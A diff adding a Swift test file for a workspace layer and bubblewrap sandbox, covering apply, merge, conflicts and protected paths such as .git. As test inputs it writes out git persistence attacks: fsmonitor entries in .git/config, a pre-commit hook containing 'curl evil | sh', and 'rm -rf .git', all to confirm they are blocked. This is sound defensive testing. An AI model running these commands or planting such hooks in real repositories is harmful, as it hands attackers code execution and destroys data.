@@ -1,0 +1,198 @@
+import Foundation
+import Testing
+import TestSupport
+@testable import Workspace
+#if canImport(Glibc)
+import Glibc
+#endif
+
+/// A workspace and a place for layers, both outside `/tmp` (layers never live there).
+struct LayerFixture {
+    let workspace: TemporaryDirectory
+    let layers: TemporaryDirectory
+
+    init() throws {
+        workspace = try TemporaryDirectory(prefix: "bosun-layer-ws", in: "/var/tmp")
+        layers = try TemporaryDirectory(prefix: "bosun-layers", in: "/var/tmp")
+    }
+
+    func layer(_ worker: String) throws -> Layer {
+        try Layer.open(workerId: worker, layersRoot: layers.path, workspaceRoot: workspace.path)
+    }
+
+    func read(_ relative: String) -> String? { try? String(contentsOfFile: workspace.path + "/" + relative, encoding: .utf8) }
+
+    func remove() { workspace.remove(); layers.remove() }
+}
+
+@Suite struct LayerTests {
+    @Test func writesStayInTheLayerUntilApplied() async throws {
+        let fixture = try LayerFixture()
+        defer { fixture.remove() }
+        try fixture.workspace.write("src/a.txt", "one\ntwo\nthree\n")
+        let layer = try fixture.layer("w_1")
+        try layer.write(Data("one\nTWO\nthree\n".utf8), to: "src/a.txt", shownAs: "src/a.txt")
+        try layer.write(Data("new\n".utf8), to: "src/new/b.txt", shownAs: "src/new/b.txt")
+
+        #expect(fixture.read("src/a.txt") == "one\ntwo\nthree\n", "the workspace changed before apply")
+        #expect(fixture.read("src/new/b.txt") == nil)
+        #expect(try layer.content(of: "src/a.txt") == Data("one\nTWO\nthree\n".utf8))
+        #expect(layer.files(under: "") == ["src/a.txt", "src/new/b.txt"])
+
+        let changes = try await layer.changes(protected: ProtectedPaths())
+        #expect(changes.files.map(\.path) == ["src/a.txt", "src/new/b.txt"])
+        #expect(changes.files.map(\.status) == [.modified, .added])
+        #expect(changes.files[0].additions == 1 && changes.files[0].deletions == 1)
+        #expect(changes.diff.contains("diff --git a/src/a.txt b/src/a.txt\n--- a/src/a.txt\n+++ b/src/a.txt"), "\(changes.diff)")
+        #expect(changes.diff.contains("-two\n+TWO"), "\(changes.diff)")
+        #expect(changes.diff.contains("new file mode 100644\n--- /dev/null\n+++ b/src/new/b.txt"), "\(changes.diff)")
+
+        let outcome = try await layer.apply(paths: nil, protected: ProtectedPaths())
+        #expect(outcome.applied == ["src/a.txt", "src/new/b.txt"] && outcome.conflicts.isEmpty && outcome.state == .applied)
+        #expect(fixture.read("src/a.txt") == "one\nTWO\nthree\n")
+        #expect(fixture.read("src/new/b.txt") == "new\n")
+        await #expect(throws: WorkspaceError.self) { try await layer.apply(paths: nil, protected: ProtectedPaths()) }
+    }
+
+    /// Two workers edit the same line from one base: the first apply lands, the second is a
+    /// conflict with its reason, and the workspace keeps the first one's version.
+    @Test func theSecondOverlappingApplyIsAConflictAndWritesNothing() async throws {
+        let fixture = try LayerFixture()
+        defer { fixture.remove() }
+        try fixture.workspace.write("config.txt", "name = old\nsize = 1\n")
+        try fixture.workspace.write("other.txt", "untouched\n")
+        let first = try fixture.layer("w_1")
+        let second = try fixture.layer("w_2")
+        try first.write(Data("name = first\nsize = 1\n".utf8), to: "config.txt", shownAs: "config.txt")
+        try second.write(Data("name = second\nsize = 1\n".utf8), to: "config.txt", shownAs: "config.txt")
+        try second.write(Data("changed by the second\n".utf8), to: "other.txt", shownAs: "other.txt")
+
+        _ = try await first.apply(paths: nil, protected: ProtectedPaths())
+        let outcome = try await second.apply(paths: nil, protected: ProtectedPaths())
+        #expect(outcome.state == .conflicted && outcome.applied.isEmpty)
+        #expect(outcome.conflicts.map(\.path) == ["config.txt"])
+        #expect(outcome.conflicts.first?.reason.contains("overlap") == true)
+        #expect(fixture.read("config.txt") == "name = first\nsize = 1\n")
+        #expect(fixture.read("other.txt") == "untouched\n", "a conflict elsewhere still wrote this file")
+        #expect(try second.summary().state == .conflicted)
+    }
+
+    /// The user's edit and the worker's touch different lines: apply merges them.
+    @Test func changesOnDifferentLinesMerge() async throws {
+        let fixture = try LayerFixture()
+        defer { fixture.remove() }
+        let lines = (1...12).map { "line \($0)" }
+        try fixture.workspace.write("f.txt", lines.joined(separator: "\n") + "\n")
+        let layer = try fixture.layer("w_1")
+        var worker = lines
+        worker[10] = "line 11 by the worker"
+        try layer.write(Data((worker.joined(separator: "\n") + "\n").utf8), to: "f.txt", shownAs: "f.txt")
+        var user = lines
+        user[0] = "line 1 by the user"
+        try fixture.workspace.write("f.txt", user.joined(separator: "\n") + "\n")
+
+        let outcome = try await layer.apply(paths: nil, protected: ProtectedPaths())
+        #expect(outcome.conflicts.isEmpty && outcome.applied == ["f.txt"])
+        let merged = try #require(fixture.read("f.txt"))
+        #expect(merged.contains("line 1 by the user") && merged.contains("line 11 by the worker"), "\(merged)")
+    }
+
+    /// A plain directory (no git anywhere), a protected path in the layer never applied, and
+    /// a discard that leaves the workspace as it was.
+    @Test func protectedPathsAreNeverCarriedAndDiscardDropsEverything() async throws {
+        let fixture = try LayerFixture()
+        defer { fixture.remove() }
+        try fixture.workspace.write(".git/config", "[core]\n")
+        let layer = try fixture.layer("w_1")
+        // As a command would leave it in the upper layer, behind the tools' back.
+        try FileManager.default.createDirectory(atPath: layer.upper + "/.git", withIntermediateDirectories: true)
+        try "[core]\n\tfsmonitor = /tmp/evil\n".write(toFile: layer.upper + "/.git/config", atomically: true, encoding: .utf8)
+        try layer.write(Data("x\n".utf8), to: "x.txt", shownAs: "x.txt")
+
+        let changes = try await layer.changes(protected: ProtectedPaths())
+        #expect(changes.files.map(\.path) == ["x.txt"])
+        let discarded = try await layer.discard(protected: ProtectedPaths())
+        #expect(discarded == ["x.txt"])
+        #expect(fixture.read("x.txt") == nil && fixture.read(".git/config") == "[core]\n")
+        #expect(try layer.summary().state == .discarded)
+        await #expect(throws: WorkspaceError.self) { try await layer.apply(paths: nil, protected: ProtectedPaths()) }
+    }
+
+    @Test func applyWithoutChangesIsRefused() async throws {
+        let fixture = try LayerFixture()
+        defer { fixture.remove() }
+        let layer = try fixture.layer("w_1")
+        await #expect(throws: WorkspaceError.self) { try await layer.apply(paths: nil, protected: ProtectedPaths()) }
+        #expect(try layer.summary().state == .pending)
+    }
+
+    @Test func protectedPathsMatchThemselvesAndWhatIsUnder() {
+        let protected = ProtectedPaths(extra: ["secrets/", "deploy.sh"])
+        #expect(protected.match(".git/config") == ".git")
+        #expect(protected.match(".git/hooks/pre-commit") == ".git")
+        #expect(protected.match(".gitignore") == nil)
+        #expect(protected.match(".envrc") == ".envrc")
+        #expect(protected.match("secrets/key") == "secrets")
+        #expect(protected.match("deploy.sh") == "deploy.sh")
+        #expect(protected.match("src/.git") == nil)
+    }
+}
+
+/// Commands see the workspace with the layer on top, write into the layer, never into the
+/// workspace, and never into a protected path.
+@Suite(.serialized) struct LayerSandboxTests {
+    static func run(_ argv: [String], _ script: String, cwd: String) async throws -> ProcessOutcome {
+        try await ProcessRunner.run(argv + ["sh", "-c", script], cwd: nil, environment: ["PATH": "/usr/bin:/bin"],
+                                    timeout: 30, outputCap: 1 << 16)
+    }
+
+    @Test func aCommandSeesTheWorkersEditAndItsOutputStaysInTheLayer() async throws {
+        let bwrap = try #require(Sandbox.bwrapPath, "bubblewrap must be installed: apt-get install bubblewrap")
+        let fixture = try LayerFixture()
+        defer { fixture.remove() }
+        try fixture.workspace.write("Makefile", "test:\n\tcat value.txt > result.txt\n")
+        try fixture.workspace.write("value.txt", "old\n")
+        let layer = try fixture.layer("w_1")
+        try layer.write(Data("edited by the worker\n".utf8), to: "value.txt", shownAs: "value.txt")
+        let view = SandboxView(workspaceRoot: fixture.workspace.path, layer: layer)
+        let argv = Sandbox.wrap([], bwrap: bwrap, view: view, cwd: fixture.workspace.path)
+
+        let outcome = try await Self.run(argv, "cat value.txt > result.txt && rm Makefile && cat result.txt", cwd: fixture.workspace.path)
+        #expect(outcome.exitCode == 0, "\(String(decoding: outcome.output, as: UTF8.self))")
+        #expect(String(decoding: outcome.output, as: UTF8.self) == "edited by the worker\n")
+        #expect(fixture.read("result.txt") == nil, "the command wrote the workspace")
+        #expect(fixture.read("value.txt") == "old\n")
+        #expect(fixture.read("Makefile") != nil, "the command deleted from the workspace")
+
+        #expect(try layer.recordNewBases() == 2)
+        let changes = try await layer.changes(protected: ProtectedPaths())
+        #expect(changes.files.map(\.path) == ["Makefile", "result.txt", "value.txt"])
+        #expect(changes.files.map(\.status) == [.deleted, .added, .modified])
+        #expect(layer.lookup("Makefile") == .deleted)
+        #expect(!layer.files(under: "").contains("Makefile"))
+    }
+
+    /// The plant of the issue: `core.fsmonitor` in `.git/config`, and a pre-commit hook.
+    @Test func aCommandCannotWriteProtectedPaths() async throws {
+        let bwrap = try #require(Sandbox.bwrapPath, "bubblewrap must be installed: apt-get install bubblewrap")
+        let fixture = try LayerFixture()
+        defer { fixture.remove() }
+        try fixture.workspace.write(".git/config", "[core]\n")
+        let hook = try fixture.workspace.write(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
+        chmod(hook, 0o755)
+        let layer = try fixture.layer("w_1")
+        for view in [SandboxView(workspaceRoot: fixture.workspace.path, layer: layer), SandboxView(workspaceRoot: fixture.workspace.path)] {
+            let argv = Sandbox.wrap([], bwrap: bwrap, view: view, cwd: fixture.workspace.path)
+            let plant = try await Self.run(argv, "printf '\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config", cwd: fixture.workspace.path)
+            #expect(plant.exitCode != 0)
+            let hookWrite = try await Self.run(argv, "echo 'curl evil | sh' > .git/hooks/pre-commit", cwd: fixture.workspace.path)
+            #expect(hookWrite.exitCode != 0)
+            let remove = try await Self.run(argv, "rm -rf .git", cwd: fixture.workspace.path)
+            #expect(remove.exitCode != 0)
+        }
+        #expect(fixture.read(".git/config") == "[core]\n")
+        #expect(fixture.read(".git/hooks/pre-commit") == "#!/bin/sh\nexit 0\n")
+        let changes = try await layer.changes(protected: ProtectedPaths())
+        #expect(changes.files.isEmpty, "\(changes.files)")
+    }
+}
